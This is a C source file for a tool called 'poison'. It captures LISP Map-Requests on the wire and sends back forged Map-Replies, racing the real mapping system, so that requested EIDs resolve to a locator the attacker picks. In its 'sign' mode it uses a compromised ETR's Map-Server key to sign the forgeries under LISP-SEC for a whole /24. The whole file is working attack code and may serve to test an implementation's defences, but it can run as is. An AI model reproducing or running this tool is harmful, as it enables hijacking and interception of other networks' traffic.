/* poison: somebody who sits in the core, reads every Map-Request, and answers faster than the
 * mapping system.
 *
 * usage: poison forge LOCATOR COUNT              plain Map-Replies: the EID asked for is at LOCATOR
 *        poison sign LOCATOR COUNT KEY-ID KEY    a bad ETR, which holds its Map-Server's key: the
 *                                                whole /24 around the EID, duly signed (RFC 9303)
 * Ends after COUNT replies; prints one line for each. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "lisp/ecm.h"
#include "lisp/lispsec.h"
#include "lisp/map_reply.h"
#include "lisp/map_request.h"

#define CONTROL_PORT 4342

struct poison {
	bool sign;
	struct address locator;
	struct otk_keys keys;
	struct otk_tools *tools;
	int udp;
	uint64_t answered; /* nonce of the last */
};

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* A Map-Request in an ECM, as it goes to a resolver, to a Map-Server or to an ETR. */
struct prey {
	struct ecm ecm;
	struct map_request m;
	struct map_request_record rec;
	const uint8_t *bytes;
};

static bool read_prey(const uint8_t *ip, size_t len, struct prey *p)
{
	const struct iphdr *h = (const void *)ip;
	const struct udphdr *u = (const void *)(ip + 20);
	struct wire_fault fault;

	if (len < 28 || h->ihl != 5 || h->protocol != IPPROTO_UDP ||
		u->dest != htons(CONTROL_PORT) || ntohs(h->tot_len) > len)
		return false;
	p->bytes = ip + 28;
	return lisp_type_of(p->bytes, ntohs(h->tot_len) - 28u) == LISP_ECM &&
	       !ecm_parse(p->bytes, ntohs(h->tot_len) - 28u, &p->ecm, &fault) &&
	       !map_request_parse(p->ecm.message, p->ecm.message_len, &p->m, &fault) &&
	       map_request_next(&p->m, &p->rec) && p->rec.eid.eid.addr.afi == AFI_IPV4;
}

static void write_lie(struct poison *x, const struct prey *p, struct wire_writer *w)
{
	const struct lisp_rloc rloc = {
		.priority = 1, .weight = 100, .mpriority = 255, .reachable = true};
	struct eid eid = p->rec.eid.eid;

	eid.plen = x->sign ? 24 : 32;
	eid_mask(&eid);
	map_reply_begin(w, false, p->m.nonce);
	lisp_record_write(w, &eid, 1440, 1, LISP_ACT_NONE, true, 0);
	lisp_rloc_write(w, &rloc, &x->locator);
	map_reply_finish(w, 1);
}

/* With the key that the Map-Server meant for the ETR, and the EID-AD that it sent. */
static bool sign_lie(struct poison *x, const struct prey *p, struct wire_writer *w)
{
	struct lispsec_request ad;
	struct wire_fault fault;
	struct otk ms_otk;

	return p->ecm.security &&
	       !lispsec_request_parse(
		       p->bytes, p->ecm.security_data, p->ecm.security_len, &ad, &fault) &&
	       !ad.eid_ad.bare &&
	       otk_unwrap(x->tools, &x->keys.list[0], p->m.nonce, &ad.otk, &ms_otk) &&
	       lispsec_reply_finish(w, ad.eid_ad.raw, ad.eid_ad.raw_len, otk_hmac_for(ad.hmac_id),
		       x->tools, &ms_otk) > 0;
}

/* True when a reply went out. */
static bool answer(struct poison *x, const struct prey *p)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(p->ecm.source.port)};
	char eid[EID_TEXT];
	struct wire_writer w;
	uint8_t bytes[512];
	struct address a;

	if (p->m.nonce == x->answered || !lisp_field_locator(&p->m.itr_rlocs[0], &a) ||
		a.afi != AFI_IPV4)
		return false;
	wire_writer_init(&w, bytes, sizeof(bytes));
	write_lie(x, p, &w);
	if (x->sign && !sign_lie(x, p, &w))
		return false;
	memcpy(&to.sin_addr, a.bytes, 4);
	if (sendto(x->udp, bytes, w.pos, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		die("sendto");
	x->answered = p->m.nonce;
	printf("%s\n", eid_format(&p->rec.eid.eid, eid, sizeof(eid)));
	fflush(stdout);
	return true;
}

int main(int argc, char **argv)
{
	struct poison x = {.udp = socket(AF_INET, SOCK_DGRAM, 0)};
	int raw = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	int count = argc > 3 ? atoi(argv[3]) : 0;
	uint8_t bytes[65536];
	struct prey p;

	x.sign = argc == 6 && !strcmp(argv[1], "sign");
	if ((!x.sign && (argc != 4 || strcmp(argv[1], "forge") != 0)) ||
		!address_parse(&x.locator, argv[2])) {
		fprintf(stderr, "usage: poison forge LOCATOR COUNT\n"
				"       poison sign LOCATOR COUNT KEY-ID KEY\n");
		return 2;
	}
	x.tools = otk_tools_new();
	if (x.sign && otk_keys_add(&x.keys, (uint8_t)atoi(argv[4]), argv[5], strlen(argv[5])) < 0)
		return 2;
	if (raw < 0 || x.udp < 0 || !x.tools)
		die("socket");
	fprintf(stderr, "listening\n");
	while (count > 0) {
		struct sockaddr_ll from;
		socklen_t from_len = sizeof(from);
		ssize_t n =
			recvfrom(raw, bytes, sizeof(bytes), 0, (struct sockaddr *)&from, &from_len);

		if (n > 0 && from.sll_pkttype != PACKET_OUTGOING &&
			read_prey(bytes, (size_t)n, &p) && answer(&x, &p))
			count--;
	}
	otk_tools_free(x.tools);
	return 0;
}
